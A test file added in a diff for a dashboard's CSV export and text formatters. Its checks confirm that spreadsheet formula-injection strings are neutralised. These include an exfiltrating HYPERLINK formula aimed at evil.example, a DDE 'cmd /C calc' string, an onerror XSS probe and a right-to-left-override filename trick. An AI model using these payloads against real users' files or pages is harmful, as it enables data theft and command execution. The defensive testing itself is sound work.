@@ -1,0 +1,59 @@
+import t from 'tap'
+import { toCsv } from '../../src/dashboard/browser/csv.ts'
+import { amountWords, brief, exact, fromNow, length, money, plainName, reasonWords, windowWords } from '../../src/dashboard/browser/format.ts'
+
+/** A reader of RFC 4180 that knows nothing of ours. */
+function parse(text: string): string[][] {
+  const rows: string[][] = [[]]
+  let at = 0
+  while (at < text.length) {
+    let cell = ''
+    if (text[at] === '"') {
+      at += 1
+      while (text[at] !== '"' || text[at + 1] === '"') {
+        cell += text[at]
+        at += text[at] === '"' ? 2 : 1
+      }
+      at += 1
+    } else while (at < text.length && !',\r\n'.includes(text[at] ?? '')) cell += text[at++]
+    rows.at(-1)?.push(cell)
+    if (text[at] === ',') at += 1
+    else {
+      if (text.slice(at, at + 2) !== '\r\n') throw new Error(`no line end at ${at}`)
+      at += 2
+      if (at < text.length) rows.push([])
+    }
+  }
+  return rows
+}
+
+t.test('W2: no cell of a CSV becomes a formula, and every text comes back as it was', async (t) => {
+  const hostile = ['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '|cmd', ' =1', '＝1+1', '＠x', "=HYPERLINK(\"http://evil.example?\"&A1)", '-2+3+cmd|\' /C calc\'!A0']
+  for (const text of hostile) {
+    const cell = parse(toCsv(['a'], [[text]]).slice(1))[1]?.[0]
+    t.equal(cell, `'${text}`, JSON.stringify(text))
+  }
+  for (const text of ['plain', 'with "quotes"', 'two\nlines', 'two\r\nlines', 'a,b', 'ü 漢 🙂', "it's", 'a=b', '', '-5', '-0.25', '<img src=x onerror=alert(1)>']) {
+    t.equal(parse(toCsv(['a'], [[text, 'z']]).slice(1))[1]?.[0], text, JSON.stringify(text))
+  }
+  t.equal(parse(toCsv(['a'], [['a\0b']]).slice(1))[1]?.[0], 'ab', 'NUL is left out')
+  t.equal(toCsv(['a', 'b'], [[1, null], [-2.5, 'x']]), '\ufeffa,b\r\n1,\r\n-2.5,x\r\n', 'numbers stay numbers')
+})
+
+t.test('amounts, sums and instants are written as people read them', async (t) => {
+  t.same([[1, 'requests'], [3, 'requests'], [1, 'total_tokens'], [1, 'compute_seconds'], [2.5, 'cost']].map(([amount, meter]) => amountWords(Number(amount), String(meter))), ['1 request', '3 requests', '1 token', '1 s', '2.5'])
+  t.same([0, 7, 1234567, 0.25, 1234.567, null].map(exact), ['0', '7', '1,234,567', '0.25', '1,234.57', '–'])
+  t.same([9_999, 12_345, 1_234_567].map(brief), ['9,999', '12.3K', '1.23M'])
+  t.same([{ USD: '1.2' }, { USD: '0.000412500' }, { USD: '0' }, {}, { EUR: '2', USD: '3' }, null].map(money), ['1.20 USD', '0.000413 USD', '–', '–', '2.00 EUR + 3.00 USD', '–'])
+  t.same([250, 12_000, 75_000, 3_600_000, 90_061_000, 26 * 86_400_000].map(length), ['250 ms', '12 s', '1 min 15 s', '1 h', '1 d 1 h', '26 d'])
+  const now = Date.parse('2026-11-22T10:00:00Z')
+  t.same(['2026-11-22T10:00:12Z', '2026-11-22T09:58:00Z', '2026-11-22T10:00:00.100Z', null, 'never'].map((text) => fromNow(text, now)), ['in 12 s', '2 min ago', 'now', '–', '–'])
+  t.same(['day', '1m', '1h (fixed)', null].map(windowWords), ['per day', 'in 1m', 'in 1h by the clock', 'at once'])
+  t.equal(reasonWords('some_new_reason'), 'some new reason', 'a reason of tomorrow can be read')
+})
+
+t.test('W1: a name turns no text around and hides nothing', async (t) => {
+  t.equal(plainName('gpj.\u202etxt.exe'), 'gpj.\\u202etxt.exe')
+  t.equal(plainName('a\u200bb\u0000c\ufeff'), 'a\\u200bb\\u0000c\\ufeff')
+  t.equal(plainName('<img src=x onerror=alert(1)> 漢字 🙂'), '<img src=x onerror=alert(1)> 漢字 🙂')
+})
